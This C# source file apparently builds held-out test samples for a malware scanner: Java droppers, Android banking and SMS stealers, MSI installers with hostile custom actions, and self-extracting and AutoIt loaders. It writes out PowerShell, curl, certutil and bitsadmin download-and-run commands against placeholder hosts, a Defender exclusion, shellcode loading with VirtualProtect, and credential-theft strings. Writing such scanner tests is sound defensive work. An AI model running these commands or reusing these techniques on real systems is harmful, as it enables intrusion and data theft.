using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Java archives that fetch, unwrap and start. Their methods return at once.</summary>
public sealed class JavaFetchers : SixthRound
{
    private const string Exec = "java/lang/Runtime.exec:(Ljava/lang/String;)Ljava/lang/Process;";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Payment_Advice.jar", SixthJava.Jar("Main-Class: Main", ("Main.class", SixthJava.Class("Main", "java/lang/Object",
            ["http://192.0.2.171/files/update.exe", "java.io.tmpdir", "update.exe", "cmd.exe /c start "],
            "java/net/URL.openStream:()Ljava/io/InputStream;", "java/nio/file/Files.copy:(Ljava/io/InputStream;Ljava/nio/file/Path;[Ljava/nio/file/CopyOption;)J", "java/lang/Runtime.getRuntime:()Ljava/lang/Runtime;", Exec))));
        yield return ("Remessa_NFe.jar", SixthJava.Jar("Main-Class: carLambo.k9x",
            ("carLambo/k9x.class", SixthJava.Class("carLambo/k9x", "java/lang/ClassLoader", ["/carLambo/resources/kqx.png", "AES/ECB/PKCS5Padding", "AES", "powershell.exe -enc ", "wscript.exe //B ", "REG ADD HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ntfsmgr /d "],
                "java/lang/Class.getResourceAsStream:(Ljava/lang/String;)Ljava/io/InputStream;", "javax/crypto/Cipher.getInstance:(Ljava/lang/String;)Ljavax/crypto/Cipher;", "javax/crypto/Cipher.doFinal:([B)[B", "carLambo/k9x.defineClass:(Ljava/lang/String;[BII)Ljava/lang/Class;", "java/lang/reflect/Method.invoke:(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", Exec)),
            ("carLambo/resources/kqx.png", SixthNoise.Bytes(20000, 61))));
        yield return ("OptiFine_HD_U_J2_mod.jar", SixthJava.Jar("FMLCorePlugin: dev.op.Core\r\nFMLCorePluginContainsFMLMod: true",
            ("mcmod.info", Utf8("[{\"modid\":\"optishade\",\"name\":\"OptiShade\",\"version\":\"1.2\",\"mcversion\":\"1.8.9\"}]")),
            ("dev/op/Core.class", SixthJava.Class("dev/op/Core", "java/lang/Object", ["https://discord.com/api/webhooks/000000000000000000/inert", "getSessionID", "\\.minecraft\\launcher_accounts.json", "\\discord\\Local Storage\\leveldb\\", "\\Google\\Chrome\\User Data\\Default\\Login Data", "https://api.ipify.org", "{\"content\":\"@everyone new login: "],
                "net/minecraft/util/Session.func_111286_b:()Ljava/lang/String;", "java/net/HttpURLConnection.setRequestMethod:(Ljava/lang/String;)V", "java/net/URL.openConnection:()Ljava/net/URLConnection;", "java/io/OutputStream.write:([B)V"))));
        yield return ("pdf-stamper-1.4.jar", SixthJava.Jar("Main-Class: org.stamper.Main\r\nLaunch-Agent-Class: org.stamper.Agent",
            ("org/stamper/Main.class", SixthJava.Class("org/stamper/Main", "java/lang/Object", ["Usage: stamper in.pdf out.pdf text"], "java/io/PrintStream.println:(Ljava/lang/String;)V", "org/stamper/Agent.agentmain:(Ljava/lang/String;)V")),
            ("org/stamper/Agent.class", SixthJava.Class("org/stamper/Agent", "java/security/SecureClassLoader", ["emitnuR.gnal.avaj", "cexe", "emitnuRteg", "fonts/stamp.ttf", Backwards("https://fonts.pdf-stamper.example/f?os=")],
                "java/lang/StringBuilder.reverse:()Ljava/lang/StringBuilder;", "java/lang/Class.forName:(Ljava/lang/String;)Ljava/lang/Class;", "java/lang/Class.getMethod:(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;", "java/lang/reflect/Method.invoke:(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", "java/util/zip/InflaterInputStream.read:([B)I", "org/stamper/Agent.defineClass:(Ljava/lang/String;[BIILjava/security/CodeSource;)Ljava/lang/Class;", "java/net/URL.openStream:()Ljava/io/InputStream;")),
            ("fonts/stamp.ttf", [0, 1, 0, 0, .. SixthNoise.Bytes(12000, 62)])));
    }
}

/// <summary>Android packages that ask for all that a banking thief, a spy, a dropper or a blackmailer needs.</summary>
public sealed class AndroidThieves : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Flash_Player_update.apk", Apk("com.adobe.flash.update.x",
            ["RECEIVE_SMS", "SEND_SMS", "READ_SMS", "READ_CONTACTS", "SYSTEM_ALERT_WINDOW", "RECEIVE_BOOT_COMPLETED", "INTERNET", "REQUEST_IGNORE_BATTERY_OPTIMIZATIONS", "QUERY_ALL_PACKAGES", "FOREGROUND_SERVICE"],
            [("service", ".Acc", "android.permission.BIND_ACCESSIBILITY_SERVICE", "android.accessibilityservice.AccessibilityService"), ("receiver", ".Sms", "android.permission.BROADCAST_SMS", "android.provider.Telephony.SMS_RECEIVED"), ("receiver", ".Adm", "android.permission.BIND_DEVICE_ADMIN", "android.app.action.DEVICE_ADMIN_ENABLED")],
            ["Landroid/accessibilityservice/AccessibilityService;", "Landroid/telephony/SmsManager;", "sendTextMessage", "performGlobalAction", "getRunningTasks", "com.bank.example.app", "http://203.0.113.73/api/mirrors", "injects", "grabPush", "startVnc", "TYPE_ACCESSIBILITY_OVERLAY"]));
        yield return ("Wedding_Invitation.apk", Apk("com.shadi.card.viewer", ["RECEIVE_SMS", "READ_SMS", "SEND_SMS", "INTERNET", "READ_PHONE_STATE", "READ_CONTACTS", "RECEIVE_BOOT_COMPLETED"],
            [("activity", ".Form", "", "android.intent.action.MAIN"), ("receiver", ".Rcv", "", "android.provider.Telephony.SMS_RECEIVED")],
            ["Landroid/telephony/SmsMessage;", "createFromPdu", "https://api.telegram.org/bot0000000000:AAInert/sendMessage?chat_id=0&text=", "New SMS From ", "getDisplayOriginatingAddress", "file:///android_asset/form.html", "addJavascriptInterface"],
            ("assets/form.html", Utf8("<form><h3>KYC: Enter Aadhaar, card number, expiry, CVV and ATM PIN to view the card</h3><input name=card><input name=cvv><input name=pin type=password><button onclick=\"Android.send(this.form)\">Submit</button></form>"))));
        yield return ("PdfReaderPro.apk", Apk("com.pdf.reader.pro.tools", ["REQUEST_INSTALL_PACKAGES", "INTERNET", "QUERY_ALL_PACKAGES"],
            [("activity", ".Main", "", "android.intent.action.MAIN")],
            ["Ldalvik/system/DexClassLoader;", "Landroid/content/pm/PackageInstaller$Session;", "loadClass", "update.apk", "application/vnd.android.package-archive", "To continue, allow installs from this source", "https://pdf-tools-cdn.example/cfg.json"],
            ("assets/update.apk", Apk("com.core.sys.service", ["BIND_ACCESSIBILITY_SERVICE", "READ_SMS", "RECORD_AUDIO", "CAMERA", "ACCESS_FINE_LOCATION"], [("service", ".Core", "android.permission.BIND_ACCESSIBILITY_SERVICE", "android.accessibilityservice.AccessibilityService")], ["Landroid/accessibilityservice/AccessibilityService;", "startScreenShare"]))));
        yield return ("Calculator_v3.apk", Apk("org.simple.calc.daily", ["INTERNET", "RECEIVE_BOOT_COMPLETED", "FOREGROUND_SERVICE", "POST_NOTIFICATIONS", "RECORD_AUDIO", "READ_CALL_LOG", "ACCESS_BACKGROUND_LOCATION", "READ_EXTERNAL_STORAGE"],
            [("activity", ".Calc", "", "android.intent.action.MAIN"), ("service", ".KeepOn", "android.permission.BIND_NOTIFICATION_LISTENER_SERVICE", "android.service.notification.NotificationListenerService"), ("receiver", ".Up", "", "android.intent.action.BOOT_COMPLETED")],
            ["Ldalvik/system/InMemoryDexClassLoader;", "Landroid/media/MediaRecorder;", "setComponentEnabledSetting", "Y2FsYy1zeW5jLmV4YW1wbGU=", "assets/digits.dat", "AES/CBC/PKCS5Padding", "getInstallerPackageName", "ro.kernel.qemu", "generic_x86"],
            ("assets/digits.dat", SixthNoise.Bytes(50000, 63))));
    }

    private static byte[] Apk(string package, string[] permissions, (string, string, string, string)[] components, string[] names, params (string, byte[])[] more) =>
        ApkBuilder.Sign(InertFiles.Zip([("AndroidManifest.xml", SixthJava.Manifest(package, permissions, components)), ("classes.dex", SixthJava.Dex(["L" + package.Replace('.', '/') + "/Main;", "onCreate", .. names])), .. more]), "CN=Android Debug,O=Android,C=US");
}

/// <summary>Installers whose custom actions run commands or scripts.</summary>
public sealed class InstallerActions : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("setup.msi", Msi(InertFiles.Pe(), "RunPs\t3106\tTARGETDIR\tpowershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.57/s.ps1')\""));
        yield return ("Teams_meeting_update.msi", Msi(InertFiles.Pe(2048), "A1\t1061\t\tvar s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'https://teams-update.example/c.dat', false); x.send(); s.Run('cmd /c curl -o %TEMP%\\\\c.exe https://teams-update.example/c.exe && %TEMP%\\\\c.exe', 0);",
            "A2\t34\tINSTALLDIR\trundll32.exe \"[INSTALLDIR]inner.bin\",DllInstall"));
        yield return ("Documento_fiscal.msi", Msi(Dos("@echo off\nbitsadmin /transfer a http://203.0.113.92/a.zip %APPDATA%\\a.zip\n"), "V1\t1062\t\tSet o = CreateObject(\"WScript.Shell\") : o.Run \"cmd.exe /c certutil -urlcache -f http://203.0.113.92/autoit3.exe %APPDATA%\\a3.exe & certutil -urlcache -f http://203.0.113.92/s.a3x %APPDATA%\\s.a3x & %APPDATA%\\a3.exe %APPDATA%\\s.a3x\", 0, False"));
        yield return ("NotepadPlus_x64.msi", Msi(InertFiles.Pe(4096), "SetTool\t51\tTOOLPATH\t[SystemFolder]cmd.exe", "SetArg\t51\tTOOLARG\t/c start /min for /f %a in ('nslookup -q=txt cfg.notepad-mirror.example') do @set z=%a & call %z%",
            "RunTool\t3122\tTOOLPATH\t[TOOLARG]", "Quiet\t3106\tSystemFolder\tmsiexec.exe /q /i https://notepad-mirror.example/lang.msi"));
    }

    private static byte[] Msi(byte[] inner, params string[] actions)
    {
        using var folder = new TemporaryFolder();
        folder.Write("inner.bin", inner);
        return SixthInstallers.Sequenced(folder, actions);
    }
}

/// <summary>Archives that unpack and start by themselves, and AutoIt's compiled scripts.</summary>
public sealed class SelfStarters : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("photos_2026.exe", [.. SixthInstallers.Starter(), .. Utf8(";!@Install@!UTF-8!\r\nTitle=\"Photos\"\r\nGUIMode=\"2\"\r\nOverwriteMode=\"2\"\r\nInstallPath=\"%TEMP%\\\\ph\"\r\nRunProgram=\"hidcon:cmd.exe /c run.bat\"\r\n;!@InstallEnd@!\r\n"),
            .. SixthInstallers.SevenZip(("run.bat", Dos("@echo off\npowershell -c Add-MpPreference -ExclusionPath %TEMP%\nstart svc.exe\nstart photo.jpg\n")), ("svc.exe", InertFiles.Pe(4096)), ("photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[64], 0xFF, 0xD9]))]);
        yield return ("Contract_signed.pdf.exe", [.. SixthInstallers.Starter(), .. InertFiles.Zip(("contract.pdf", Utf8("%PDF-1.4\n%%EOF\n")), ("host.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"client32.exe\", 0\n")), ("client32.exe", InertFiles.Pe(2048)), ("client32.ini", Dos("[HTTP]\nGatewayAddress=198.51.100.150:443\nGSK=inert\n[Client]\nsilent=1\nSysTray=0\n"))),
            .. Utf8("\r\n;The comment below contains SFX script commands\r\nPath=%AppData%\\host\r\nSetup=wscript.exe host.vbs\r\nSetup=contract.pdf\r\nSilent=1\r\nOverwrite=1\r\n")]);
        yield return ("script.a3x", [0xA3, 0x48, 0x4B, 0xBE, 0x98, 0x6C, 0x4A, 0xA9, 0x99, 0x4C, 0x53, 0x0A, 0x86, 0xD6, 0x48, 0x7D, .. "AU3!EA06"u8, .. SixthNoise.Bytes(30000, 64)]);
        yield return ("readme.au3", Dos("""
            #NoTrayIcon
            #pragma compile(Icon, "folder.ico")
            If WinExists("[CLASS:AVPUI]") Or ProcessExists("wireshark.exe") Then Exit
            Local $k = "b1z", $h = FileRead(@ScriptDir & "\readme.dat"), $b = ""
            For $i = 1 To BinaryLen(StringToBinary($h))
                $b &= Chr(BitXOR(Asc(StringMid($h, $i, 1)), Asc(StringMid($k, Mod($i, 3) + 1, 1))))
            Next
            Local $p = DllStructCreate("byte[" & StringLen($b) & "]")
            DllStructSetData($p, 1, $b)
            Local $d = DllCall("kernel32.dll", "bool", "VirtualProtect", "struct*", $p, "ulong_ptr", DllStructGetSize($p), "dword", 0x40, "dword*", 0)
            DllCallAddress("int", DllStructGetPtr($p))
            FileCreateShortcut(@AutoItExe, @StartupDir & "\readme.lnk", @ScriptDir, '"' & @ScriptFullPath & '"')
            InetGet("http://192.0.2.188/n", @TempDir & "\n.exe", 1)
            Run(@TempDir & "\n.exe", "", @SW_HIDE)
            """));
    }
}
